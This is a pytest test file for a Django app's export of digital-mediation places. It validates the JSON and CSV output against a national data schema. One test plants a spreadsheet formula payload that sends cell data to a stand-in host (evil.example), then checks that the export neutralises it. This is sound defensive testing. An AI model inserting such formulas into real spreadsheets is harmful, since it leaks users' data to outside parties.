"""The places export must be valid against the national schema (Table Schema v1.0.2)."""

import csv
import io
import json
import re
from datetime import date
from pathlib import Path

import pytest
from django.urls import reverse

SCHEMA = json.loads(
    (Path(__file__).resolve().parents[2] / "standards/lieux-mediation-numerique/schema.json").read_text()
)


def validate(record: dict) -> list[str]:
    """Required fields, patterns, max lengths, types and dates of the standard."""
    errors = []
    for spec in SCHEMA["fields"]:
        name, constraints = spec["name"], spec.get("constraints", {})
        value = record.get(name, "")
        value = "" if value is None else str(value)
        if not value:
            if constraints.get("required"):
                errors.append(f"{name}: required")
            continue
        if "pattern" in constraints and not re.fullmatch(constraints["pattern"], value):
            errors.append(f"{name}: {value!r} does not match the pattern")
        if "maxLength" in constraints and len(value) > constraints["maxLength"]:
            errors.append(f"{name}: longer than {constraints['maxLength']}")
        if spec.get("type") == "number":
            float(value)
        if spec.get("type") == "date":
            date.fromisoformat(value)
    return errors


@pytest.fixture
def records(client, db):
    return client.get(reverse("directory:places_export", args=["json"])).json()


def test_json_export_is_valid_against_the_national_schema(records):
    assert len(records) == 8
    for record in records:
        assert list(record) == [f["name"] for f in SCHEMA["fields"]]
        assert validate(record) == [], record["nom"]
    assert len({r["id"] for r in records}) == len(records)


def test_csv_export_has_the_standards_columns_and_pipe_separated_lists(client, db):
    response = client.get(reverse("directory:places_export", args=["csv"]))
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert rows and list(rows[0]) == [f["name"] for f in SCHEMA["fields"]]
    assert any("|" in row["services"] for row in rows)
    for row in rows:
        assert validate(row) == [], row["nom"]


def test_the_standards_own_example_passes_our_validator():
    example = Path(__file__).resolve().parents[2] / "standards/lieux-mediation-numerique/exemple-valide.csv"
    for row in csv.DictReader(example.open(encoding="utf-8")):
        assert validate(row) == []


def test_the_validator_catches_a_bad_record(records):
    bad = dict(records[0], code_postal="375", services="Cours de cuisine")
    assert len(validate(bad)) == 2


def test_unknown_format_is_404(client, db):
    assert client.get("/donnees/lieux-mediation-numerique.xml").status_code == 404


def test_csv_export_never_holds_a_formula_but_keeps_phone_numbers(client, db):
    from relais.directory.models import Place

    place = Place.objects.published().order_by("nom").first()
    place.presentation_resume = '=HYPERLINK("http://evil.example/?"&A1;"Cliquez ici")'
    place.complement_adresse = "@SUM(1+1)"
    place.telephone = "+33247000000"
    place.save()
    response = client.get(reverse("directory:places_export", args=["csv"]))
    [row] = [r for r in csv.DictReader(io.StringIO(response.content.decode())) if r["nom"] == place.nom]
    assert row["presentation_resume"] == "'" + place.presentation_resume
    assert row["complement_adresse"] == "'@SUM(1+1)"
    assert row["telephone"] == "+33247000000"  # the standard's format, unchanged
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert not any(cell[:1] in ("=", "@") for r in rows for cell in r)
